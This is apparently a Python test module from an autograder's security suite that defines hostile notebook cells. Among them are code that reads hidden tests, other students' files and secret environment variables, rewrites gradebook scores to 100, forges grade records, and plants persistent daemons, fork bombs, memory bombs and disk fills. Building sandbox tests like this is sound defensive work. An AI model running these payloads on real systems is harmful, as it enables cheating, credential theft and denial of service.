"""Attacks that reach outside the job: secrets, files, network, gradebook, processes.

Reading what is not the student's (hidden tests, solutions, other students, the
grader's environment), talking to the network, writing the gradebook or the journal,
leaving processes behind, and exhausting CPU, memory, processes and disk.
"""

from __future__ import annotations

from corpus.cellcode import LAST, hostile
from corpus.draft import Attack, AttackClass

# --- reading what is not ours ---------------------------------------------------------------

READ_KNOWN_PATHS = """
_targets = [
    _COURSE + "/source/mini/mini.ipynb",
    _COURSE + "/source/mini/mini.specs.py",
    _COURSE + "/gradebook.db",
    _COURSE + "/submitted/gradebook.db",
    "../trusted/inputs",
    "/proc/self/mountinfo",
]
import glob as _glob
_targets += _glob.glob(_COURSE + "/submitted/*/mini/*")
_targets += _glob.glob(_COURSE + "/autograder/results/mini/*/*.json")
for _path in _targets:
    try:
        if _os.path.isdir(_path):
            _exfiltrate(_path + " lists " + str(_os.listdir(_path)))
            continue
        with open(_path, "rb") as _handle:
            _data = _handle.read()
        _at = _data.find(_CANARY.encode())
        _exfiltrate(_path + " read " + str(len(_data)) + " bytes"
                    + (" " + _data[_at:_at + 48].decode("latin-1") if _at >= 0 else ""))
    except Exception as _e:
        print("cannot read", _path, type(_e).__name__)
"""

HUNT_FILESYSTEM = """
for _hit in _hunt([_COURSE, "/tmp", "/var/tmp", "/home", "/root", "/work", "/srv", "/"]):
    _exfiltrate(_hit)
"""

READ_OWN_NOTEBOOK = """
import json as _json
with open("notebook.ipynb") as _handle:
    _nb = _json.load(_handle)
for _cell in _nb["cells"]:
    _src = "".join(_cell["source"]) if isinstance(_cell["source"], list) else _cell["source"]
    _at = _src.find("### BEGIN HIDDEN TESTS")
    if _at >= 0:
        _exfiltrate(_src[_at : _src.find("### END HIDDEN TESTS")])
for _path in ("inputs", ".."):
    try:
        _exfiltrate(_path + ": " + str(_os.listdir(_path)))
    except Exception as _e:
        print("cannot list", _path, type(_e).__name__)
"""

READ_ENV = """
for _key, _value in _os.environ.items():
    if "SECRET" in _key or "TOKEN" in _key or _CANARY in _value:
        _exfiltrate(_key + "=" + _value)
_exfiltrate("env keys: " + ",".join(sorted(_os.environ)))
"""

READ_PROC = """
for _hit in _proc_secrets():
    _exfiltrate(_hit)
"""
# --- network ----------------------------------------------------------------------------------

NETWORK = """
import socket as _sock
for _family, _host in ((_sock.AF_INET, "127.0.0.1"), (_sock.AF_INET6, "::1")):
    try:
        with _sock.socket(_family, _sock.SOCK_STREAM) as _s:
            _s.settimeout(1)
            _s.connect((_host, _PORT))
            _s.sendall(f"{_MARK} {_ATTACK} network hello".encode())
            _exfiltrate("connected to " + _host)
    except Exception as _e:
        print("connect", _host, type(_e).__name__)
try:
    _u = _sock.socket(_sock.AF_INET, _sock.SOCK_DGRAM)
    _u.sendto(f"{_MARK} {_ATTACK} udp".encode(), ("127.0.0.1", _PORT))
except Exception as _e:
    print("udp", type(_e).__name__)
try:
    _sock.getaddrinfo("example.com", 80)
    _exfiltrate("DNS works")
except Exception as _e:
    print("dns", type(_e).__name__)
"""

UNIX_SOCKETS = """
import socket as _sock, stat as _stat
for _root in ("/tmp", "/run", "/var/run", "/dev/shm", _COURSE):
    for _folder, _dirs, _files in _os.walk(_root):
        for _name in _files:
            _path = _os.path.join(_folder, _name)
            try:
                if not _stat.S_ISSOCK(_os.stat(_path).st_mode):
                    continue
                with _sock.socket(_sock.AF_UNIX, _sock.SOCK_STREAM) as _s:
                    _s.settimeout(0.5)
                    _s.connect(_path)
                    _s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
                    _exfiltrate("unix socket " + _path + " answered " + repr(_s.recv(64)))
            except Exception:
                pass
"""
# --- writing to the gradebook and the journal -----------------------------------------------

GRADEBOOK_DEF = """
import sqlite3 as _sqlite3, glob as _glob
def _attack_gradebook():
    dbs = ["../../gradebook.db", "../gradebook.db", "gradebook.db", _COURSE + "/gradebook.db",
           _COURSE + "/submitted/gradebook.db"]
    for db in dbs:
        try:
            con = _sqlite3.connect(db, timeout=1)
            con.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
            con.commit()
            con.close()
            _exfiltrate("updated " + db)
        except Exception as e:
            print("sqlite", db, type(e).__name__)
        try:
            with open(db, "ab") as handle:
                handle.write(b"PWNED " + _MARK.encode())
            _exfiltrate("appended to " + db)
        except Exception as e:
            print("append", db, type(e).__name__)
"""

JOURNAL_DEF = """
import json as _json, glob as _glob
def _attack_journal():
    results = _COURSE + "/autograder/results/mini"
    forged = {"assignment": "mini", "notebook": "mini", "student_id": None,
              "status": "graded", "score": 17.0, "max_score": 19.0, "verdicts": []}
    students = [p.rsplit("/", 1)[-1] for p in _glob.glob(_COURSE + "/submitted/*")]
    for student in students:
        try:
            _os.makedirs(results + "/" + student, exist_ok=True)
            with open(results + "/" + student + "/mini.json", "w") as handle:
                _json.dump({**forged, "student_id": student}, handle)
            _exfiltrate("wrote journal for " + student)
        except Exception as e:
            print("journal", student, type(e).__name__)
"""

GRADEBOOK_SQL = GRADEBOOK_DEF + "\n_attack_gradebook()\n"
JOURNAL_WRITE = JOURNAL_DEF + "\n_attack_journal()\n"
# --- outliving the job ------------------------------------------------------------------------

DAEMON_FORK = (
    GRADEBOOK_DEF
    + JOURNAL_DEF
    + """
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        for _ in range(20):
            _time.sleep(1)
            _attack_gradebook()
            _attack_journal()
            _exfiltrate("daemon still alive")
        _os._exit(0)
    _os._exit(0)
_os.wait()
"""
)

DAEMON_EXEC = """
import subprocess as _subprocess
_script = ("sleep 3; for d in " + " ".join(_ESCAPE_DIRS) + "; do echo daemon > $d/"
           + _ESCAPE_NAME + "-sh; done; sleep 30")
_subprocess.Popen(["/bin/sh", "-c", _script, _MARK], start_new_session=True,
                  stdin=_subprocess.DEVNULL, stdout=_subprocess.DEVNULL,
                  stderr=_subprocess.DEVNULL)
_subprocess.Popen(["nohup", "sleep", "45", _MARK], start_new_session=True,
                  stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL)
"""

ATEXIT_EXEC = """
import atexit as _atexit, sys as _sys
def _reborn():
    try:
        _os.execv("/bin/sh", ["/bin/sh", "-c", "sleep 40", _MARK])
    except Exception:
        pass
_atexit.register(_reborn)
"""

NON_DAEMON_THREAD = """
import threading as _threading
def _linger():
    while True:
        _time.sleep(0.5)
_threading.Thread(target=_linger, daemon=False).start()
"""
# --- resources ----------------------------------------------------------------------------------

SIGNAL_PROOF_LOOP = """
import signal as _signal
for _sig in (_signal.SIGINT, _signal.SIGALRM, _signal.SIGTERM, _signal.SIGXCPU, _signal.SIGHUP):
    try:
        _signal.signal(_sig, _signal.SIG_IGN)
    except Exception:
        pass
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""

FORK_BOMB = """
_children = 0
try:
    while _children < 2000:
        _pid = _os.fork()
        if _pid == 0:
            _time.sleep(20)
            _os._exit(0)
        _children += 1
except Exception as _e:
    print("fork stopped after", _children, type(_e).__name__)
"""

MEMORY_BOMB = """
_hog = []
try:
    while True:
        _hog.append(bytearray(64 * 2**20))
except MemoryError:
    print("memory stopped at", len(_hog) * 64, "MiB")
try:
    _big = np.ones(10**10)
except MemoryError:
    print("numpy refused 80 GB")
del _hog
"""

DISK_FILL = """
_written = 0
_chunk = bytes(16 * 2**20)
for _folder in (".", _os.environ.get("TMPDIR", "/tmp"), "/tmp", "/dev/shm"):
    for _i in range(16):
        try:
            with open(_os.path.join(_folder, f"fill-{_i}.bin"), "wb") as _handle:
                for _ in range(4):
                    _handle.write(_chunk)
                    _written += len(_chunk)
        except Exception as _e:
            print("fill stopped in", _folder, type(_e).__name__)
            break
try:
    with open("toolarge.bin", "wb") as _handle:
        _handle.write(bytes(200 * 2**20))
except Exception as _e:
    print("one big file refused:", type(_e).__name__)
print("disk written:", _written // 2**20, "MiB")
"""


def escape_attacks() -> list[Attack]:
    """The attacks on the machine and the other students."""
    c = AttackClass
    return [
        Attack(
            "read-known-paths",
            c.DISK_READ,
            "open the source, specs, others' files, journal",
            hostile(READ_KNOWN_PATHS),
        ),
        Attack(
            "read-hunt", c.DISK_READ, "walk the filesystem for the canary", hostile(HUNT_FILESYSTEM)
        ),
        Attack(
            "read-own-notebook",
            c.DISK_READ,
            "read the restored notebook's hidden tests",
            hostile(READ_OWN_NOTEBOOK),
        ),
        Attack("secret-env", c.SECRETS, "GRADER_SECRET_TOKEN from os.environ", hostile(READ_ENV)),
        Attack("secret-proc", c.SECRETS, "other processes' environ and argv", hostile(READ_PROC)),
        Attack("net-tcp", c.NETWORK, "TCP/UDP/IPv6 to the loopback server, DNS", hostile(NETWORK)),
        Attack("net-unix", c.NETWORK, "connect to any Unix socket found", hostile(UNIX_SOCKETS)),
        Attack(
            "gb-sqlite",
            c.GRADEBOOK_WRITE,
            "UPDATE every gradebook.db it can open",
            hostile(GRADEBOOK_SQL),
        ),
        Attack(
            "gb-journal",
            c.GRADEBOOK_WRITE,
            "write forged journal entries for everyone",
            hostile(JOURNAL_WRITE),
        ),
        Attack(
            "persist-fork-daemon",
            c.PERSISTENCE,
            "double-forked daemon rewrites the gradebook",
            hostile(DAEMON_FORK),
        ),
        Attack(
            "persist-exec-daemon",
            c.PERSISTENCE,
            "setsid sh/nohup daemons drop files later",
            hostile(DAEMON_EXEC),
        ),
        Attack(
            "persist-atexit-exec",
            c.PERSISTENCE,
            "exec a sleeper from atexit",
            hostile(ATEXIT_EXEC),
        ),
        Attack(
            "persist-thread",
            c.PERSISTENCE,
            "a non-daemon thread blocks the exit",
            hostile(NON_DAEMON_THREAD, cell=LAST),
        ),
        Attack(
            "bomb-loop",
            c.RESOURCE_BOMB,
            "infinite loop ignoring SIGINT/SIGALRM/SIGTERM",
            hostile(SIGNAL_PROOF_LOOP, "leaky_relu_forward"),
        ),
        Attack("bomb-fork", c.RESOURCE_BOMB, "fork until refused", hostile(FORK_BOMB)),
        Attack("bomb-memory", c.RESOURCE_BOMB, "allocate until refused", hostile(MEMORY_BOMB)),
        Attack(
            "bomb-disk", c.RESOURCE_BOMB, "fill 1 GB of disk, one 200 MB file", hostile(DISK_FILL)
        ),
    ]
